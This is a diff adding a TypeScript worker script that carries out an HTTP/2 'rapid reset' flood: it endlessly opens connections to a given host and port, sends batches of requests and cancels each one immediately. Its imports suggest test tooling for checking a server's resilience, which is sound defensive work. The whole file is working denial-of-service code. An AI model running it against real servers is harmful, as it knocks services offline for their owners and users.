@@ -1,0 +1,32 @@
+import { connect } from 'node:net'
+import { setImmediate } from 'node:timers/promises'
+import { workerData } from 'node:worker_threads'
+import { encodeFrame, encodeRequest, frameType, GREETING } from '../../test/support/http2-frames.ts'
+
+const BATCH = 100
+const CANCEL = Buffer.from([0, 0, 0, 8])
+
+// The program of a thread that attacks a server: it sends requests and resets each of them at once (rapid reset). If the
+// server closes the connection, it opens the next.
+const { host, port } = workerData as { readonly host: string; readonly port: number }
+for (;;) await attack()
+
+async function attack(): Promise<void> {
+  const socket = connect(port, host).on('error', () => {})
+  socket.resume().on('end', () => socket.destroy())
+  const closed = new Promise((resolve) => socket.once('close', resolve))
+  socket.write(GREETING)
+  for (let stream = 1; !socket.destroyed && stream < 2 ** 31 - 2 * BATCH; stream += 2 * BATCH) {
+    const batch = Array.from({ length: BATCH }, (_, index) => requestAndReset(stream + 2 * index))
+    if (!socket.write(Buffer.concat(batch))) {
+      await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), closed])
+    }
+    await setImmediate()
+  }
+  await closed
+}
+
+function requestAndReset(stream: number): Buffer {
+  const request = encodeRequest(stream, { ':path': '/services/my-org/my-service' })
+  return Buffer.concat([request, encodeFrame({ type: frameType.rstStream, stream, payload: CANCEL })])
+}
